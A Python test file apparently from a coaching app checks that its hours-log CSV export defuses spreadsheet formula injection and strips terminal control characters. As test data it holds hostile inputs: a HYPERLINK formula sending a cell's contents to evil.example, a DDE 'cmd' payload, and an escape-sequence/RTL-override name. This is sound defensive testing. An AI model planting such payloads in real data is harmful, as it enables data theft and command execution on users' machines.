"""Hostile names and phones stored in the vault leave it neither as formulas nor as control characters."""

from __future__ import annotations

import csv
import io
import uuid
from datetime import UTC, date, datetime

from sqlmodel import Session

from coachdesk.domain import Client
from coachdesk.services.clients import ClientDetails, create_client
from coachdesk.services.hours_log import hours_log
from coachdesk.services.hours_log_export import hours_log_csv
from coachdesk.services.sessions import SessionDetails, create_session

TODAY = date(2026, 11, 27)


def _client_with_session(db: Session, name: str, phone: str, day: int) -> uuid.UUID:
    created = create_client(db, ClientDetails(name=name, phone=phone, named_in_hours_log=True)).created
    assert created is not None
    create_session(
        db,
        SessionDetails(
            client_id=created, starts_at=datetime(2026, 4, day, 9, tzinfo=UTC), status="completed"
        ),
    )
    return created


def test_hours_log_csv_writes_formulas_as_text_and_keeps_the_vault_unchanged(db: Session) -> None:
    hyperlink = '=HYPERLINK("http://evil.example?"&A1,"Click")'
    first = _client_with_session(db, hyperlink, "+cmd|' /C calc'!A0", 1)
    _client_with_session(db, "@SUM(A1:A9)", "-2+3", 2)
    _client_with_session(db, "Amara Okafor", "+44 20 7946 0000", 3)
    text = hours_log_csv(hours_log(db, TODAY, zone=UTC)).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + hyperlink in cells and "'@SUM(A1:A9)" in cells
    assert "'+cmd|' /C calc'!A0" in cells and "'-2+3" in cells
    assert "+44 20 7946 0000" in cells and "Amara Okafor" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "@", "\t", "\r") or cell.startswith(("+c", "-2"))]
    stored = db.get(Client, first)
    assert stored is not None and stored.name == hyperlink  # neutralised on the way out only


def test_hours_log_csv_strips_control_characters_of_names_stored_earlier(db: Session) -> None:
    client = _client_with_session(db, "Zoë Ørsted", "", 1)
    stored = db.get(Client, client)
    assert stored is not None
    stored.name = "Zoë\x1b]0;owned\x07\u202e Ørsted"
    db.commit()
    text = hours_log_csv(hours_log(db, TODAY, zone=UTC)).decode("utf-8-sig")
    assert "Zoë ]0;owned  Ørsted" in text  # each run of controls: one space
    assert not any(c in text for c in "\x1b\x07\u202e")
